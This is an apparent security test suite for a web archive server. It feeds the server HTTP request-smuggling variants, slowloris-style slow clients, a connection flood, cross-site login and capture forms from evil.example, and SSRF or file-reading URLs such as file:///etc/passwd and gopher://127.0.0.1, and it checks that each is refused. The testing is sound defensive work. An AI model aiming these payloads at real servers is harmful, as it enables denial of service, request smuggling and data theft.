        checks.check(status in (405, 501, 400) and (status != 405 or "GET" in fields.get("allow", "")), f"{method} /: 405 with Allow", (status, fields))
    found = statuses(once(serving, "CONNECT evil.example:443 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
    checks.check(found and found[0] in (400, 405, 421), "CONNECT", found)
    found = statuses(once(serving, "OPTIONS * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
    checks.check(found and found[0] in (200, 204, 400, 405), "OPTIONS *", found)

    checks.section("smuggling")
    inner = "GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"
    head = "POST /login HTTP/1.1\r\nHost: localhost\r\n"
    shapes = {
        "both lengths": f"{head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}", "two lengths": f"{head}Content-Length: 0\r\nContent-Length: {len(inner)}\r\n\r\n{inner}", "a list of lengths": f"{head}Content-Length: 0, {len(inner)}\r\n\r\n{inner}",
        "a negative length": f"{head}Content-Length: -1\r\n\r\n{inner}", "a length with a sign": f"{head}Content-Length: +5\r\n\r\nabcde", "a huge length": f"{head}Content-Length: 99999999999999999999999\r\n\r\n{inner}", "a length in hex": f"{head}Content-Length: 0x5\r\n\r\nabcde",
        "space before the colon": f"{head}Content-Length : 5\r\n\r\nabcde", "a folded field": f"{head}X: a\r\n Content-Length: 5\r\n\r\nabcde{inner}", "another coding": f"{head}Transfer-Encoding: xchunked\r\n\r\n{inner}", "chunked twice": f"{head}Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n{inner}",
        "chunked, not last": f"{head}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{inner}", "a tab in the coding": f"{head}Transfer-Encoding:\tchunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n{inner}", "a chunk size that is none": f"{head}Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n{inner}",
        "a huge chunk": f"{head}Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n{inner}", "bare line feeds": f"{head}X: a\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n0\r\n\r\n{inner}", "a bare carriage return": f"{head}X: a\rContent-Length: {len(inner)}\r\n\r\n{inner}",
        "a NUL": f"{head}X: a\0b\r\n\r\n", "no version": "GET /healthz\r\n\r\n", "another version": "GET /healthz HTTP/9.9\r\nHost: localhost\r\n\r\n", "the preface of HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "a hello of TLS": "\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03",
        "nonsense": "\0\1\2\3\4\5\r\n\r\n", "two spaces": "GET  /healthz  HTTP/1.1\r\nHost: localhost\r\n\r\n", "a field without a name": "GET /healthz HTTP/1.1\r\nHost: localhost\r\n: x\r\n\r\n", "a control character in the target": "GET /health\x01z HTTP/1.1\r\nHost: localhost\r\n\r\n",
    }
    with concurrent.futures.ThreadPoolExecutor(len(shapes)) as pool:
        answers = dict(zip(shapes, pool.map(lambda data: once(serving, data.encode("latin-1"), 13), shapes.values())))
    for what, answer in answers.items():
        found = statuses(answer)
        # One answer at most is for what was sent; what was inside is a second request nowhere.
        checks.check(b"/smuggled" not in answer and len(found) <= 1, f"{what}: what is inside is no request", answer[:600].decode("latin-1"))
        checks.check(not found or found[0] in (400, 403, 404, 405, 411, 413, 414, 421, 426, 431, 501, 505) or what in ("two spaces", "another version"), f"{what}: refused, or closed", found)
    answer = once(serving, ("GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n" * 40 + "GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n").encode())
    checks.equal(statuses(answer), [200] * 41, "requests in a row are answered in a row")


# ---- clients

def clients(checks, serving, stet, quick):
    checks.section("slow clients")
    big = stet.lines("history", "https://x.example/long", "--no-summary")[1][0]
    host, port = serving.host, serving.port
    before = serving.memory()
    begin = time.monotonic()
    slow = []

    def opened(first):
        raw = Raw(serving, 60)
        raw.send(first)
        raw.since = time.monotonic()
        slow.append(raw)
        return raw

    drip = [opened(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n") for _ in range(120)]
    silent = [opened(b"") for _ in range(40)]
    bodies = [opened(b"POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\ntoken=") for _ in range(40)]
    # One request, then a second that drips: the connection was good once.
    second = [opened(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\nGET /healthz HTTP/1.1\r\nX: ") for _ in range(10)]
    # Ask for much, many times, and read nothing.
    path = f"/capture/{big['id']}/body"
    deaf = []
    for _ in range(10):
        raw = socket.socket()
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.connect((host, port))
        raw.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 40)
        deaf.append(raw)
    stop = threading.Event()

    def dripping():
        while not stop.wait(1):
            for raw in drip + second + bodies:
                with contextlib.suppress(OSError): raw.socket.send(b"X-A: b\r\n" if raw not in bodies else b"a")

    thread = threading.Thread(target=dripping, daemon=True)
    thread.start()
    times = []
    for _ in range(60):
        start = time.monotonic()
        status = serving.get("/")[0]
        times.append(time.monotonic() - start)
        checks.check(status == 200, "others still get pages", status)
        time.sleep(0.05)
    times.sort()
    checks.check(times[-3] < 1, f"quickly: median {times[30] * 1000:.1f} ms, slowest {times[-1] * 1000:.0f} ms")
    print(f"  while {len(slow) + len(deaf)} slow ones are connected: median {times[30] * 1000:.1f} ms, slowest {times[-1] * 1000:.0f} ms; memory {serving.memory() - before >> 20} MB more")

    def ended(raw, limit):
        """Seconds until the server closed it; nil where it did not."""
        sock = raw.socket if isinstance(raw, Raw) else raw
        sock.settimeout(0.2)
        while time.monotonic() - begin < limit:
            try:
                if not sock.recv(1 << 16): return time.monotonic() - begin
            except TimeoutError: continue
            except OSError: return time.monotonic() - begin
        return None

    with concurrent.futures.ThreadPoolExecutor(250) as pool:
        for what, group, limit in (("drips its head", drip, 20), ("says nothing", silent, 20), ("drips its body", bodies, 20), ("drips its second head", second, 45)):
            ends = list(pool.map(lambda raw: ended(raw, limit), group))
            checks.check(all(end is not None for end in ends), f"who {what} is cut off within {limit} s", f"{sum(e is None for e in ends)} of {len(ends)} are not")
            print(f"  who {what} is cut off after {max((e for e in ends if e is not None), default=0):.0f} s")
    stop.set()
    # Whoever does not read is told apart by the server alone: the kernel has bytes for it for ever.
    end = time.monotonic() + 50

    def open_sockets():
        return sum(1 for fd in pathlib.Path(f"/proc/{serving.process.pid}/fd").iterdir() if "socket" in str(_link(fd)))
    for raw in slow: raw.close()
    idle = None
    while time.monotonic() < end:
        idle = open_sockets()
        if idle <= 3: break
        time.sleep(0.5)
    checks.check(idle is not None and idle <= 3, f"who does not read is cut off ({time.monotonic() - begin:.0f} s after all this began; {idle} sockets are left)")
    for raw in deaf: raw.close()
    checks.check(serving.memory() - before < 300 << 20, f"memory stays ({serving.memory() - before >> 20} MB more)")
    # Slowly, but steadily: that is a reader, and is not cut off.
    if not quick:
        raw = socket.socket()
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8192)
        raw.settimeout(20)
        raw.connect((host, port))
        size = len(serving.get(path)[2])
        raw.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
        got, start = 0, time.monotonic()
        with contextlib.suppress(OSError):
            while True:
                more = raw.recv(size // 450)
                if not more: break
                got += len(more)
                if time.monotonic() - start < 40: time.sleep(0.1)
        checks.check(got > size, f"who reads {size} bytes slowly for 40 s gets all of them ({got} in {time.monotonic() - start:.0f} s)")
        raw.close()


def _link(path):
    try:
        return path.readlink()
    except OSError:
        return ""


def flood(checks, stet):
    checks.section("a flood")
    with browser.Serving(stet) as serving:
        raws = []
        for _ in range(1400):
            raw = socket.socket()
            raw.setblocking(False)
            with contextlib.suppress(BlockingIOError): raw.connect((serving.host, serving.port))
            raws.append(raw)
        for _ in range(40):
            time.sleep(0.2)
            sockets = sum("socket" in str(_link(fd)) for fd in pathlib.Path(f"/proc/{serving.process.pid}/fd").iterdir())
            if sockets > 1000: break
        checks.check(500 < sockets <= 1030, f"{sockets} of 1,400 connections are taken")
        start = time.monotonic()
        status = None
        with contextlib.suppress(OSError): status = serving.get("/healthz", timeout=40)[0]
        checks.equal(status, 200, f"and the next reader is served when the silent ones are cut off ({time.monotonic() - start:.0f} s)")
        for raw in raws: raw.close()
        checks.equal(serving.get("/healthz")[0], 200, "and all are when it is over")
    checks.equal(serving.code, 0, "and it ends as it should")
    # Fewer descriptors than connections.
    with browser.Serving(stet, files=120) as serving:
        raws = []
        for _ in range(300):
            raw = socket.socket()
            raw.setblocking(False)
            with contextlib.suppress(BlockingIOError): raw.connect((serving.host, serving.port))
            raws.append(raw)
        time.sleep(1)
        checks.equal(serving.process.poll(), None, "it outlives a lack of descriptors")
        for raw in raws: raw.close()
        time.sleep(0.5)
        status = None
        with contextlib.suppress(OSError): status = serving.get("/healthz", timeout=40)[0]
        checks.equal(status, 200, "and goes on when there are some again", "\n".join(serving.said[-3:]))


# ---- capturing from the page

TOKEN = "correct horse battery staple"


def capturing(checks, stet, serving, opened, folder, quick):
    checks.section("capturing is not there unless allowed")
    for method, path in (("GET", "/keep"), ("POST", "/keep"), ("POST", "/login"), ("GET", "/login"), ("POST", "/logout")):
        checks.equal(serving.ask(method, path, {"token": TOKEN, "url": "https://x.example/"} if method == "POST" else None)[0], 404, f"{method} {path}")
    checks.check(b"/keep" not in serving.get("/")[2], "nor is a link to it")
    checks.section("capturing with a token")
    with Server(lambda handler: respond(handler, 200, b"<!doctype html><title>A page</title><h1>A page</h1><p>The mayor said on Monday that the bridge will open in May.</p>")) as server, browser.Serving(stet, "--allow-capture", token=TOKEN) as keep:
        checks.check(not any(TOKEN in line for line in keep.said), "the token that was given is not told", keep.said)
        own = keep.address
        status, fields, _ = keep.ask("POST", "/login", {"token": "wrong"}, Origin=own)
        checks.check(status == 403 and "set-cookie" not in fields, "a wrong token", status)
        for origin in ("https://evil.example", "null", own.replace("http", "https"), own + ".evil.example", "http://localhost"):
            status, fields, _ = keep.ask("POST", "/login", {"token": TOKEN}, Origin=origin)
            checks.check(status == 403 and "set-cookie" not in fields, f"a form from {origin}", status)
        for site in ("cross-site", "same-site"):
            checks.equal(keep.ask("POST", "/login", {"token": TOKEN}, Sec_Fetch_Site=site)[0], 403, f"a form that is {site}")
        status, fields, _ = keep.ask("POST", "/login", {"token": TOKEN}, Origin=own)
        cookie = fields.get("set-cookie", "")
        checks.equal(status, 303, "the right token")
        checks.check("HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/" in cookie and fields.get("cache-control") == "no-store", "a cookie that no script reads and no other site sends", fields)
        session = cookie.partition(";")[0]
        checks.check(TOKEN not in cookie and len(session) > 40, "which is no token")
        status, fields, body = keep.get("/keep", Cookie=session)
        form = re.search(rb'name="form" value="([0-9a-f]+)"', body)
        checks.check(status == 200 and form and fields["cache-control"] == "no-store", "the form has a token of its own", status)
        form = form.group(1).decode() if form else ""
        target = server.url("/story")
        captures = len(stet.lines("list")[1])
        for what, options, data in (("without a session", {"Origin": own}, {"form": form, "url": target}), ("with another's session", {"Origin": own, "Cookie": "stet_session=" + "0" * 64}, {"form": form, "url": target}),
                                    ("without the form's token", {"Origin": own, "Cookie": session}, {"url": target}), ("with a wrong one", {"Origin": own, "Cookie": session}, {"form": "0" * 64, "url": target}),
                                    ("from another site", {"Origin": "https://evil.example", "Cookie": session}, {"form": form, "url": target})):
            checks.equal(keep.ask("POST", "/keep", data, **options)[0], 403, f"a capture {what}")
        for url in ("file:///etc/passwd", "/etc/passwd", "FILE:///etc/passwd", "ftp://127.0.0.1/", "gopher://127.0.0.1/", "javascript:alert(1)", "data:text/html,x", "-", "", "--help", "http://", "http:///x", "http://127.0.0.1:1/", "http://\x00/", "http://x y/", "http://[::1", "http://127.0.0.1:99999/"):
            status, fields, body = keep.ask("POST", "/keep", {"form": form, "url": url}, Origin=own, Cookie=session, timeout=90)
            checks.check(status in (400, 422) and b"root:" not in body and str(stet.archive).encode() not in body, f"{url!r} is refused", (status, body[-600:]))
        checks.equal(len(stet.lines("list")[1]), captures, "none of these was captured")
        status, fields, _ = keep.ask("POST", "/keep", {"form": form, "url": target}, Origin=own, Cookie=session)
        checks.check(status == 303 and fields.get("location", "").startswith("/capture/"), "a capture with all of it", (status, fields))
        status, _, body = keep.get(fields.get("location", "/none"))
        checks.check(status == 200 and target.encode() in body, "and it is shown")
        checks.check(b"mayor said" in keep.get(f"/blame?url={browser.quote(target)}")[2], "with what it says")
        checks.equal(stet.lines("list", target)[1][0]["captures"] if stet.lines("list", target)[1] else 0, 1, "and it is in the archive")
        checks.code(stet.run("verify"), 0, "which verifies")
        checks.equal(keep.ask("POST", "/keep", "form=" + form + "&url=" + "a" * 20_000, Origin=own, Cookie=session)[0], 413, "a body over the limit")
        answer = once(keep, f"POST /login HTTP/1.1\r\nHost: localhost:{keep.port}\r\nTransfer-Encoding: chunked\r\n\r\n".encode() + b"1000\r\n" + b"a" * 4096 + b"\r\n" + (b"1000\r\n" + b"a" * 4096 + b"\r\n") * 20 + b"0\r\n\r\n", 5)
        checks.check(statuses(answer)[:1] in ([413], []), "in pieces too", statuses(answer))
        start = subprocess.Popen([stet.path, "capture", "--input", "-"], env=stet.environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        lock = _locked(stet)
        status, _, body = keep.ask("POST", "/keep", {"form": form, "url": target}, Origin=own, Cookie=session, timeout=120)
        checks.check(status == 503 and b"Another program" in body, "an archive that another program writes to says so", (status, body[-400:]))
        lock.close()
        start.kill()
        start.wait()
        status, _, body = keep.ask("POST", "/keep", {"form": form, "url": target}, Origin=own, Cookie=session, timeout=120)
        checks.equal(status, 303, "and is captured when it has ended")
        status, fields, _ = keep.ask("POST", "/logout", {"form": "0"}, Origin=own, Cookie=session)
        checks.equal(status, 403, "a logout that another site asks for")
        status, fields, _ = keep.ask("POST", "/logout", {"form": form}, Origin=own, Cookie=session)
        checks.check(status == 303 and "Max-Age=0" in fields.get("set-cookie", ""), "logout", (status, fields))
        checks.equal(keep.ask("POST", "/keep", {"form": form, "url": target}, Origin=own, Cookie=session)[0], 403, "and the session is over")

        checks.section("capturing in the browser")
        context = opened.new_context(viewport={"width": 1000, "height": 700}, java_script_enabled=False)
        page = context.new_page()
        page.goto(keep.url("/"))
        page.locator("a[href='/keep']").click()
        page.locator("input[name=token]").fill("not it")
        page.locator("main form button").click()
        checks.check(page.locator("[role=alert]").count() == 1 and page.locator("input[name=token]").count() == 1, "a wrong token is said to be one", page.content()[-600:])
        page.locator("input[name=token]").fill(TOKEN)
        page.locator("main form button").click()
        if checks.check(page.locator("input[name=url]").count() == 1, "the right one opens the form", page.content()[-800:]):
            page.locator("input[name=url]").fill(server.url("/other"))
            page.locator("main form button").first.click()
            checks.check("/capture/" in page.url, "which captures", page.url + page.content()[-600:])
            page.goto(keep.url("/keep"))
            page.locator("form[action='/logout'] button").click()
            page.goto(keep.url("/keep"))
            checks.equal(page.locator("input[name=token]").count(), 1, "and the log out button ends it")
        context.close()

        checks.section("guessing")
        found = [keep.ask("POST", "/login", {"token": f"guess {n}"}, Origin=own)[0] for n in range(30)]
        checks.check(found[0] == 403 and found[-1] == 429, "many wrong tokens are slowed down", found)
        checks.equal(keep.get("/")[0], 200, "and readers are not")
    checks.check(not any(TOKEN in line for line in keep.said), "and the token is told nowhere", keep.said)
    with browser.Serving(stet, "--allow-capture", token="short") as keep:
        time.sleep(0.3)
        told = re.search(r"token for capturing is ([0-9a-f]{32})", "\n".join(keep.said))
        checks.check(told is not None, "a token that is too short is not taken: one is made", keep.said)
        if told: checks.equal(keep.ask("POST", "/login", {"token": told.group(1)})[0], 303, "which opens")
        checks.equal(keep.ask("POST", "/login", {"token": "short"})[0], 403, "and the short one does not")


def _locked(stet):
    """The archive's lock, held as a writer holds it."""
    import fcntl
    file = open(next(stet.archive.glob("*.lock")), "r+b")
    # An open file description lock, F_OFD_SETLK, and flock: whichever is used, it is held.
    with contextlib.suppress(OSError): fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    import struct
    with contextlib.suppress(OSError): fcntl.fcntl(file, 37, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0))
    return file


def main():
    browser.enter("web_hostile")
    options = arguments(__doc__, ("--only", dict(help="one part alone: browser, requests, clients, capturing")))
    checks = Checks("web_hostile")
    part = lambda name: options.only in (None, name)
    with scratch(options) as folder, contextlib.ExitStack() as stack:
        enemy = Enemy()
        stack.enter_context(enemy.away)
        stack.enter_context(enemy.server)
        stet = Stet(options.stet, folder / "archive", folder)
        checks.section(f"an archive of {len(TEXTS)} texts, {len(URLS)} addresses, {len(VALUES)} values and {len(BODIES)} bodies")
        captures = archive(checks, stet, folder, enemy, options.quick)
        # No name leads anywhere: the browser's own errands are not to be waited for.
        opened = stack.enter_context(browser.browser("--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"))
        with browser.Serving(stet) as serving:
            if part("browser"):
                control(checks, opened, enemy)
                shown(checks, serving, opened, enemy, captures, options.quick)
                replayed(checks, serving, opened, enemy, captures, options.quick)
            if part("requests"):
                headers(checks, serving, captures)
                requests(checks, serving, stet)
            if part("clients"):
                clients(checks, serving, stet, options.quick)
                flood(checks, stet)
            if part("capturing"): capturing(checks, stet, serving, opened, folder, options.quick)
            checks.equal(serving.process.poll(), None, "the server still runs")
        checks.equal(serving.code, 0, "and ends when it is told to", "\n".join(serving.said[-5:]))
        print("  " + "\n  ".join(serving.said[:8]))
    return checks.finish()


if __name__ == "__main__":
    raise SystemExit(main())
